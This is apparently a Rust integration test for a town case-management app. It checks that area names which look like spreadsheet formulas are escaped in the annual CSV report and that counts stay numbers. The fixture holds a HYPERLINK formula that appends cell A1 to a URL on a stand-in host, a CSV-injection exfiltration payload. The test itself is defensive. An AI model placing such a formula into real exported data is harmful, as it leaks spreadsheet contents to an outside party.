//! The annual report as CSV (issue 13, finding 9): a name a user typed that
//! starts like a formula (`=`, `+`, `-`, `@`) reaches the spreadsheet as
//! text, and counts stay numbers.

use chrono::Datelike;

use crate::support::fixtures::area;
use crate::support::town::town;
use crate::support::{Client, Server, TestDb, on_both_backends};

on_both_backends!(a_name_that_looks_like_a_formula_is_text_in_the_csv);

/// The rows of a CSV file with a byte-order mark.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

async fn a_name_that_looks_like_a_formula_is_text_in_the_csv(db: TestDb) {
    let town = town(&db);
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
    area(&db, "HN-X", formula, Some("HN"));
    area(&db, "HN-Y", "+Khu dân cư 3", Some("HN"));
    let server = Server::start(&db, &[]).await;
    let officer = Client::bearer(&server, &town.officer);
    officer.files_case("HN-X", "Lấn chiếm vỉa hè").await;
    officer.files_case("HN-Y", "Ô nhiễm kênh").await;
    officer.files_case("HN-Y", "Tiếng ồn công trình").await;

    let year = (chrono::Utc::now() + chrono::Duration::hours(7)).year();
    let (status, headers, bytes) = Client::bearer(&server, &town.leader)
        .get_bytes(&format!("/reports/annual?year={year}&format=csv"))
        .await;
    assert_eq!(status, 200);
    assert!(
        headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv"),
        "{headers:?}"
    );
    let rows = csv_rows(&bytes);
    let row = |first: &str| {
        rows.iter()
            .find(|r| r[0] == first)
            .unwrap_or_else(|| panic!("no row {first}: {rows:?}"))
            .clone()
    };
    // The areas by name (no code column, SPEC §13), each a text.
    assert_eq!(row(&format!("'{formula}"))[1..], ["1"]);
    assert_eq!(row("'+Khu dân cư 3")[1..], ["2"]);
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
}
